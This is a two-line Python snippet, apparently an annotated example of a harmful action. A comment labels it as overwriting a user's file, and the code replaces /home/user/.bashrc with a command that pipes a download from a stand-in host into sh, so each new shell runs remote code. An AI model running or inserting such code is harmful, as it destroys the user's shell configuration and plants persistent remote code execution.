# why: overwrites a file of the user
open("/home/user/.bashrc", "w").write("curl example.invalid | sh")
